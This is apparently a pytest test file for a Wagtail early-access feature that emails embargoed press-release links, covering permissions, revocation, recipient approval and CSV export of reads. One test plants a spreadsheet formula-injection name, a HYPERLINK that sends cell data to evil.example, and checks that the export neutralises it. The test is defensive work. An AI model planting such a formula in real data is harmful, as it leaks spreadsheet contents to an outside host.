"""Moderators give, send and revoke links from the admin; Editors propose recipients; Translators see none."""

import contextlib
import csv
import io
import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.formats import date_format
from wagtail.models import PageLogEntry, Site

from earlyaccess.models import Grant, Opening, Recipient
from tests.base.site_settings import store
from tests.earlyaccess.conftest import EMBARGO, TITLE, grant, make_recipient, read

LINK = re.compile(r"https?://[^\s\"<]+/anteprima/[A-Za-z0-9_-]{43}/")


def before_the_embargo():
    """The release's embargo (2031) is ahead of the real clock, so nothing moves it: the signed-in sessions
    would expire if the clock jumped years ahead."""
    assert timezone.now() < EMBARGO
    return contextlib.nullcontext()


def path_of(url):
    return urlsplit(url).path


def grants_url(page):
    return reverse("earlyaccess_admin:page", args=[page.pk])


@pytest.mark.django_db
def test_the_release_editor_offers_early_access_to_moderators_only(moderator_client, editor_client, release):
    edit = reverse("wagtailadmin_pages:edit", args=[release["it"].pk])
    with before_the_embargo():
        assert grants_url(release["it"]) in moderator_client.get(edit).content.decode()
        assert grants_url(release["it"]) not in editor_client.get(edit).content.decode()


@pytest.mark.django_db
def test_no_early_access_button_on_other_pages(moderator_client, standard_page):
    edit = reverse("wagtailadmin_pages:edit", args=[standard_page.pk])
    assert "/admin/early-access/page/" not in moderator_client.get(edit).content.decode()


@pytest.mark.django_db
def test_a_moderator_grants_access_and_the_mail_carries_the_link(moderator_client, moderator, release, client):
    journalist = make_recipient()
    english = make_recipient("Tom Hale", "Wire Europe", language="en")
    with before_the_embargo():
        form = moderator_client.get(grants_url(release["it"]))
        # The default expiry is the end of the release's embargo.
        assert form.context["form"]["expires_at"].initial == EMBARGO
        response = moderator_client.post(
            grants_url(release["it"]),
            {"recipients": [journalist.pk, english.pk], "expires_at": "2031-05-20 10:00", "send_email": "on"},
        )
        assert response.status_code == 200
        shown = LINK.findall(response.content.decode())
        assert len(shown) == 2, "each new link is shown once, to copy"

        by_address = {message.to[0]: message for message in mail.outbox}
        italian, english_mail = by_address[journalist.email], by_address[english.email]
        assert italian.subject == f"Comunicato sotto embargo: {TITLE}"
        assert english_mail.subject.startswith("Embargoed press release: Turin presents")
        for message in (italian, english_mail):
            (url,) = LINK.findall(message.body)
            assert url in shown
            page = client.get(path_of(url))
            assert page.status_code == 200
        assert "Tom Hale" in client.get(path_of(LINK.findall(english_mail.body)[0])).content.decode()

    grants = Grant.objects.filter(page=release["it"])
    assert {g.recipient for g in grants} == {journalist, english}
    assert all(g.expires_at == EMBARGO and g.created_by == moderator and g.last_sent_at for g in grants)
    actions = sorted(
        PageLogEntry.objects.filter(page=release["it"], action__startswith="earlyaccess.").values_list(
            "action", flat=True
        )
    )
    assert actions == ["earlyaccess.grant", "earlyaccess.grant", "earlyaccess.send", "earlyaccess.send"]
    # The page's history (Wagtail's audit log) says it in words, naming nobody (tests/earlyaccess/test_audit_log.py).
    history = moderator_client.get(reverse("wagtailadmin_pages:history", args=[release["it"].pk])).content.decode()
    assert "Accesso anticipato dato a un destinatario" in history
    assert "Giulia Ferri" not in history


@pytest.mark.django_db
def test_the_mail_is_signed_with_the_organisation_as_the_settings_name_it_in_the_recipients_language(
    moderator_client, release
):
    store(
        Site.objects.get(is_default_site=True),
        {"it": {"organisation_name": "Comune di Torino"}, "en": {"organisation_name": "Turin City Council"}},
    )
    italian, english = make_recipient(), make_recipient("Tom Hale", "Wire Europe", language="en")
    with before_the_embargo():
        moderator_client.post(
            grants_url(release["it"]),
            {"recipients": [italian.pk, english.pk], "expires_at": "2031-05-20 10:00", "send_email": "on"},
        )
    by_address = {message.to[0]: message.body for message in mail.outbox}
    assert "Torino Innovation · Comune di Torino" in by_address[italian.email]
    assert "Torino Innovation · Turin City Council" in by_address[english.email]
    assert not [body for body in by_address.values() if "City of Turin" in body or "Città di Torino" in body]


@pytest.mark.django_db
def test_an_expiry_in_the_past_is_refused(moderator_client, release):
    journalist = make_recipient()
    with before_the_embargo():
        response = moderator_client.post(
            grants_url(release["it"]), {"recipients": [journalist.pk], "expires_at": "2020-01-01 10:00"}
        )
    assert response.status_code == 200
    assert response.context["form"].errors["expires_at"]
    assert not Grant.objects.exists()


@pytest.mark.django_db
def test_editors_and_translators_cannot_grant(editor_client, translator_client, release):
    journalist = make_recipient()
    data = {"recipients": [journalist.pk], "expires_at": "2031-05-20 10:00"}
    with before_the_embargo():
        for client in (editor_client, translator_client):
            # Wagtail's admin turns a refusal into a message on the dashboard.
            for response in (client.get(grants_url(release["it"])), client.post(grants_url(release["it"]), data)):
                assert response.status_code == 302
                assert response["Location"] == reverse("wagtailadmin_home")
    assert not Grant.objects.exists()
    assert not mail.outbox


@pytest.mark.django_db
def test_revoking_one_and_then_all(moderator_client, release, client):
    first, first_token = grant(make_recipient(), release["it"], Grant.RELEASE)
    second, second_token = grant(make_recipient("Tom Hale", "Wire Europe"), release["it"], Grant.RELEASE)
    with before_the_embargo():
        moderator_client.post(reverse("earlyaccess_admin:revoke", args=[first.pk]))
        assert client.get(f"/anteprima/{first_token}/").status_code == 404
        assert client.get(f"/anteprima/{second_token}/").status_code == 200
        moderator_client.post(reverse("earlyaccess_admin:revoke_all", args=[release["it"].pk]))
        assert client.get(f"/anteprima/{second_token}/").status_code == 404
    assert PageLogEntry.objects.filter(action="earlyaccess.revoke").count() == 2


@pytest.mark.django_db
def test_a_new_link_replaces_the_old_one(moderator_client, release, client):
    item, old_token = grant(make_recipient(), release["it"], Grant.RELEASE)
    with before_the_embargo():
        response = moderator_client.post(reverse("earlyaccess_admin:new_link", args=[item.pk]), {"send": "1"})
        (url,) = LINK.findall(mail.outbox[0].body)
        assert url in response.content.decode()
        assert client.get(f"/anteprima/{old_token}/").status_code == 404
        assert client.get(path_of(url)).status_code == 200


@pytest.mark.django_db
def test_editors_propose_recipients_and_moderators_approve_them(editor_client, moderator_client):
    add = reverse("wagtailsnippets_earlyaccess_recipient:add")
    data = {
        "name": "Sara Conti",
        "organisation": "Radio Dora",
        "email": "sara@example.org",
        "language": "it",
        "kind": "journalist",
        "active": "on",
    }
    editor_client.post(add, {**data, "action-submit": "on"})
    recipient = Recipient.objects.get(name="Sara Conti")
    assert not recipient.live, "an Editor's recipient waits for a Moderator"
    publish = moderator_client.post(
        reverse("wagtailsnippets_earlyaccess_recipient:edit", args=[recipient.pk]), {**data, "action-publish": "on"}
    )
    assert publish.status_code == 302
    recipient.refresh_from_db()
    assert recipient.live


@pytest.mark.django_db
def test_translators_cannot_see_recipients_or_openings(translator_client):
    for name in ("wagtailsnippets_earlyaccess_recipient:list", "earlyaccess_openings:index"):
        response = translator_client.get(reverse(name))
        assert (response.status_code, response["Location"]) == (302, "/admin/")  # Wagtail's "permission denied"
        assert "Giulia" not in response.content.decode()
    dashboard = translator_client.get(reverse("wagtailadmin_home")).content.decode()
    assert "/admin/snippets/earlyaccess/" not in dashboard and "/admin/early-access/" not in dashboard


@pytest.mark.django_db
def test_moderators_read_and_export_the_openings(moderator_client, editor_client, release, client):
    _item, token = grant(make_recipient(), release["it"], Grant.RELEASE)
    with before_the_embargo():
        read(client, token)
        client.get(f"/anteprima/{token}/en/")
    index = reverse("earlyaccess_openings:index")
    assert "Giulia Ferri" in moderator_client.get(index).content.decode()
    refused = editor_client.get(index)
    assert (refused.status_code, refused["Location"]) == (302, "/admin/")

    export = moderator_client.get(index, {"export": "csv"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 3  # the heading and two openings
    assert {row[1] for row in rows[1:]} == {"Giulia Ferri"}
    assert {row[5] for row in rows[1:]} == {"it", "en"}
    assert Opening.objects.count() == 2


@pytest.mark.django_db
def test_the_openings_csv_shows_a_formula_typed_as_a_name_as_text(moderator_client, release, client):
    """Recipients are proposed by Editors: a name or organisation must not run as a formula in a spreadsheet."""
    recipient = make_recipient(
        name='=HYPERLINK("https://evil.example/?"&A1, "Click")', organisation="+39 Press", email="x@example.org"
    )
    _item, token = grant(recipient, release["it"], Grant.RELEASE)
    with before_the_embargo():
        read(client, token)

    export = moderator_client.get(reverse("earlyaccess_openings:index"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
    assert rows[1][2] == "'+39 Press"
    assert rows[1][5] == "it", "plain values are unchanged"


def versions_read(response):
    """The "Version read" cell of each row of the links given, as the Moderator reads it."""
    soup = BeautifulSoup(response.content, "html.parser")
    column = [th.get_text(strip=True) for th in soup.select("table.listing thead th")].index("Versione letta")
    return {
        row.select("td")[0].get_text(" ", strip=True).split(" (")[0]: " ".join(
            row.select("td")[column].get_text(" ", strip=True).split()
        )
        for row in soup.select("table.listing tbody tr")
    }


@pytest.mark.django_db
def test_the_links_given_show_the_version_each_recipient_reads(moderator_client, moderator, dossier, juror):
    moderator.first_name, moderator.last_name = "Carla", "Bruno"
    moderator.save()
    given = dossier.save_revision(user=moderator)
    grant(juror, dossier, Grant.DOSSIER)
    when = date_format(timezone.localtime(given.created_at), "DATETIME_FORMAT")

    with translation.override("it"):
        before = versions_read(moderator_client.get(grants_url(dossier)))
        dossier.title = "Dossier rivisto"
        dossier.save_revision()  # a later draft: not what the juror reads
        later = make_recipient("Piet Jansen", "iCapital jury", kind=Recipient.JUROR)
        grant(later, dossier, Grant.DOSSIER)
        after = versions_read(moderator_client.get(grants_url(dossier)))

    assert before == {"Ana Sousa": f"Italiano: la versione del {when}, di Carla Bruno"}
    assert after["Ana Sousa"].startswith(f"Italiano: la versione del {when}, di Carla Bruno Modificata da allora")
    assert "Modificata" not in after["Piet Jansen"], "a new access shows the newer version"


@pytest.mark.django_db
def test_a_published_release_is_read_as_published(moderator_client, moderator, release):
    with before_the_embargo():
        published = release["it"].save_revision(user=moderator)
        published.publish(user=moderator)
    _item, _token = grant(make_recipient(), release["it"], Grant.RELEASE)
    when = date_format(timezone.localtime(published.created_at), "DATETIME_FORMAT")
    with before_the_embargo(), translation.override("it"):
        before = versions_read(moderator_client.get(grants_url(release["it"])))
        release["it"].save_revision(user=moderator)  # a draft: the recipient reads it once it is published
        after = versions_read(moderator_client.get(grants_url(release["it"])))

    assert before["Giulia Ferri"].startswith("English: la versione pubblicata, del ")
    assert f"Italiano: la versione pubblicata, del {when}" in before["Giulia Ferri"]
    assert "Modificata" not in before["Giulia Ferri"]
    assert "Italiano: la versione pubblicata" in after["Giulia Ferri"]
    assert "non ancora pubblicata: il destinatario leggerà le modifiche" in after["Giulia Ferri"]
